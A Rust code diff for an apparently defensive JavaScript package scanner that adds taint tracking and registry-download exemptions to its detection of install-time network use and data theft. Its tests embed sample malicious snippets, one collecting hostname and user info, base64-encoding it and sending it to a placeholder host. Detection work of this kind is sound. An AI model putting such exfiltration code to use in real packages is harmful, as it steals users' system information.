@@ -16,7 +16,7 @@ use tree_sitter::{Node, Parser};
 
 use crate::decode;
 use crate::ext;
-use crate::model::{Facts, Raw, Scope, Sink, snippet};
+use crate::model::{Fact, Facts, Raw, Scope, Sink, snippet};
 use crate::patterns;
 use malgraph_core::Stage;
 
@@ -298,6 +298,27 @@ impl<'t> Js<'t> {
         }
     }
 
+    /// Where a request goes: the expression's text as [`Js::loose_str`] gives it, a name
+    /// read through its value (`const url = `https://host/${p}``) when it is bound once in
+    /// the function around the use (or, outside functions, once in the file).
+    fn target_text(&self, n: Node<'_>) -> String {
+        if n.kind() == "identifier" {
+            let name = self.text(n);
+            let within = std::iter::successors(n.parent(), |p| p.parent())
+                .find(|p| is_function(*p))
+                .map(|f| f.byte_range());
+            let mut values = self.inits.iter().filter(|(k, v)| {
+                k == name && within.as_ref().is_none_or(|r| r.contains(&v.start_byte()))
+            });
+            if let (Some((_, v)), None) = (values.next(), values.next())
+                && (within.is_some() || self.unique(name))
+            {
+                return self.loose_str(*v);
+            }
+        }
+        self.loose_str(n)
+    }
+
     /// The module (or module member) an expression denotes: `require('x')`,
     /// `require('x').y`, `await import('x')`, `cp.exec` with `cp` an alias.
     fn module_of(&self, n: Node<'_>) -> Option<String> {
@@ -402,7 +423,17 @@ impl<'t> Js<'t> {
 
     /// Record what `name = value` tells.
     fn bind(&mut self, name: Node<'t>, value: Node<'t>) {
-        self.count_binding(name);
+        // `x = f(x)` transforms the value `x` holds rather than binding a new one.
+        let mut itself = false;
+        if name.kind() == "identifier" && !is_function(value) && value.byte_range().len() <= 4096 {
+            let t = self.text(name);
+            walk(value, |n| {
+                itself |= n.kind() == "identifier" && self.text(n) == t
+            });
+        }
+        if !itself {
+            self.count_binding(name);
+        }
         if let Some(m) = self.module_of(value) {
             match name.kind() {
                 "identifier" => {
@@ -591,6 +622,18 @@ impl<'t> Js<'t> {
                     let Some(obj) = f.child_by_field_name("object") else {
                         return;
                     };
+                    // Collected values pushed into a list taint the list.
+                    if obj.kind() == "identifier"
+                        && f.child_by_field_name("property")
+                            .is_some_and(|p| matches!(self.text(p), "push" | "unshift"))
+                        && let Some(args) = n.child_by_field_name("arguments")
+                    {
+                        let t = self.taint_of(args);
+                        if t != 0 {
+                            updates.push((self.text(obj).to_string(), t));
+                        }
+                        return;
+                    }
                     let t = self.taint_of(obj);
                     if t == 0 || f.kind() != "member_expression" {
                         return;
@@ -774,6 +817,8 @@ pub(crate) fn analyze(src: &[u8], ctx: &JsCtx<'_>, sink: &mut Sink) -> Facts {
         escaped_strings: 0,
         hidden: Vec::new(),
         strings: 0,
+        funcs: HashMap::new(),
+        forwarded: Vec::new(),
     }
     .run(root);
     facts
@@ -795,6 +840,51 @@ struct Walker<'a, 't> {
     /// Decoded values of escaped string literals (checked as commands when obfuscated).
     hidden: Vec<(u32, String)>,
     strings: usize,
+    /// Named functions by id: a request to one of their parameters is decided by their
+    /// callers.
+    funcs: HashMap<usize, Named<'t>>,
+    /// Requests inside a named function that go where its caller says (a parameter, or a
+    /// call of itself following a redirect): (function id, parameter index, the fact).
+    forwarded: Vec<(usize, Option<usize>, Fact)>,
+}
+
+/// A named function: `function f(a) {}`, `const f = (a) => {}`.
+struct Named<'t> {
+    name: &'t str,
+    /// Parameter names by position (`None` for patterns and rest parameters).
+    params: Vec<Option<&'t str>>,
+    node: Node<'t>,
+}
+
+impl<'t> Named<'t> {
+    fn of(f: Node<'t>, src: &'t [u8]) -> Option<Self> {
+        let name = match f.kind() {
+            "function_declaration" | "generator_function_declaration" => {
+                f.child_by_field_name("name")?
+            }
+            _ => {
+                let d = f.parent().filter(|p| p.kind() == "variable_declarator")?;
+                d.child_by_field_name("name")
+                    .filter(|n| n.kind() == "identifier")?
+            }
+        };
+        let params = match f.child_by_field_name("parameter") {
+            Some(p) => vec![Some(text(p, src))],
+            None => {
+                let ps = f.child_by_field_name("parameters")?;
+                let mut c = ps.walk();
+                ps.named_children(&mut c)
+                    .filter(|p| p.kind() != "comment")
+                    .map(|p| (p.kind() == "identifier").then(|| text(p, src)))
+                    .collect()
+            }
+        };
+        Some(Named {
+            name: text(name, src),
+            params,
+            node: f,
+        })
+    }
 }
 
 impl<'t> Walker<'_, 't> {
@@ -873,6 +963,11 @@ impl<'t> Walker<'_, 't> {
             {
                 top_called.insert(text(f, src));
             }
+            if is_function(n)
+                && let Some(f) = Named::of(n, src)
+            {
+                self.funcs.insert(n.id(), f);
+            }
             let mut c = n.walk();
             for ch in n.named_children(&mut c) {
                 stack.push((ch, inside || is_function(ch)));
@@ -909,7 +1004,7 @@ impl<'t> Walker<'_, 't> {
             }
             stack[start..].reverse();
         }
-        self.finish();
+        self.finish(root);
     }
 
     /// One call or `new`; returns whether it is a network call (its callbacks get the
@@ -1042,7 +1137,22 @@ impl<'t> Walker<'_, 't> {
                 scope,
                 format!("network access with `{name}`"),
             );
-            self.facts.network.push((fid, line, scope, snip.clone()));
+            let fact = (fid, line, scope, snip.clone());
+            let target = first.map(|a| js.target_text(a)).unwrap_or_default();
+            let wrapper = self.funcs.get(&fid);
+            let param = wrapper.and_then(|w| {
+                let a = first.filter(|a| a.kind() == "identifier")?;
+                w.params.iter().position(|p| *p == Some(text(a, js.src)))
+            });
+            let recursion =
+                wrapper.is_some_and(|w| f.kind() == "identifier" && text(f, js.src) == w.name);
+            if malgraph_ioc::is_package_registry_url(&target) {
+                // A package fetched from its registry, as npm itself would.
+            } else if param.is_some() || recursion {
+                self.forwarded.push((fid, param, fact));
+            } else {
+                self.facts.network.push(fact);
+            }
             if args.is_some_and(|a| js.sends_collected(a, scope)) {
                 self.push(
                     "EXFIL-SEND-COLLECTED",
@@ -1206,9 +1316,48 @@ impl<'t> Walker<'_, 't> {
         }
     }
 
+    /// Requests to a named function's parameter count as network use unless every call of
+    /// the function from outside it names a package registry (an installer's
+    /// `fetch(url)` helper called only with `https://registry.npmjs.org/...`). A function
+    /// nobody here calls by name (exported, passed around) keeps its requests.
+    fn resolve_forwarded(&mut self, root: Node<'t>) {
+        let src = self.js.src;
+        let mut decided: HashMap<usize, bool> = HashMap::new();
+        for (fid, param, fact) in std::mem::take(&mut self.forwarded) {
+            let keep = *decided.entry(fid).or_insert_with(|| {
+                let (Some(w), Some(i)) = (self.funcs.get(&fid), param) else {
+                    return true;
+                };
+                let inside = w.node.byte_range();
+                let mut calls = 0;
+                let mut elsewhere = false;
+                walk(root, |c| {
+                    if c.kind() == "call_expression"
+                        && !inside.contains(&c.start_byte())
+                        && c.child_by_field_name("function")
+                            .is_some_and(|f| f.kind() == "identifier" && text(f, src) == w.name)
+                    {
+                        calls += 1;
+                        let arg = c
+                            .child_by_field_name("arguments")
+                            .and_then(|a| a.named_child(i as u32));
+                        elsewhere |= !arg.is_some_and(|a| {
+                            malgraph_ioc::is_package_registry_url(&self.js.target_text(a))
+                        });
+                    }
+                });
+                calls == 0 || elsewhere
+            });
+            if keep {
+                self.facts.network.push(fact);
+            }
+        }
+    }
+
     /// File-level conclusions: remote eval, downloads written to disk, reverse shells,
     /// obfuscator output and the commands it hides.
-    fn finish(mut self) {
+    fn finish(mut self, root: Node<'t>) {
+        self.resolve_forwarded(root);
         let net_fids: HashSet<usize> = self.facts.network.iter().map(|(g, ..)| *g).collect();
         for (n, fid, scope, in_net) in std::mem::take(&mut self.evals) {
             if in_net || net_fids.contains(&fid) {
@@ -1549,5 +1698,67 @@ req.end();
                 .0
                 .contains(&"EXFIL-SEND-COLLECTED")
         );
+    }
+
+    #[test]
+    fn collected_values_pushed_into_a_list_and_transformed_in_place_are_followed() {
+        let src = r#"
+const os = require("os"), request = require("request");
+var json = [];
+json.push(os.hostname());
+json.push(os.userInfo());
+json = JSON.stringify(json);
+const hash = encrypt(json);
+var buff = Buffer.from(JSON.stringify(hash)).toString("base64");
+request(`https://x.example/?q=${buff}`, () => {});
+"#;
+        assert!(run(src, Scope::IMPORT).0.contains(&"EXFIL-SEND-COLLECTED"));
+        // A list of fixed values sent is not collected data.
+        let fixed = src
+            .replace("os.hostname()", "'a'")
+            .replace("os.userInfo()", "'b'");
+        assert!(
+            !run(&fixed, Scope::IMPORT)
+                .0
+                .contains(&"EXFIL-SEND-COLLECTED")
+        );
+    }
+
+    #[test]
+    fn requests_to_a_package_registry_are_not_network_facts() {
+        // esbuild's installer shape: a fetch helper following redirects, called with the
+        // registry tarball URL of the package's own binary.
+        let helper = r#"
+const https = require("https"), fs = require("fs");
+function fetch(url) {
+  return new Promise((resolve, reject) => {
+    https.get(url, (res) => {
+      if (res.statusCode === 302) return fetch(res.headers.location).then(resolve, reject);
+      res.on("end", () => resolve(1));
+    });
+  });
+}
+async function viaNpm(pkg, version) {
+  const url = `https://registry.npmjs.org/${pkg}/-/${pkg}-${version}.tgz`;
+  fs.writeFileSync("bin/tool", await fetch(url));
+}
+viaNpm("tool-linux-64", "1.0.0");
+"#;
+        let (_, facts) = run(helper, Scope::INSTALL);
+        assert!(facts.network.is_empty(), "{:?}", facts.network);
+        assert!(facts.download_to_file.is_empty());
+        // The same helper pointed at a host of one's own is network use, and so is one
+        // under another name, or one nobody here calls.
+        let own = helper.replace("https://registry.npmjs.org", "http://203.0.113.7");
+        assert!(!run(&own, Scope::INSTALL).1.network.is_empty());
+        let renamed = "const https = require('https');
+function get(u) { https.get(u, r => r.pipe(process.stdout)); }
+get('https://registry.npmjs.org/a/-/a-1.tgz');
+get(process.argv[2]);";
+        assert!(!run(renamed, Scope::INSTALL).1.network.is_empty());
+        let exported = "const https = require('https');
+module.exports = function dl(u) { return https.get(u); };
+exports.dl2 = function (u) { return https.get(u); };";
+        assert_eq!(run(exported, Scope::INSTALL).1.network.len(), 2);
     }
 }
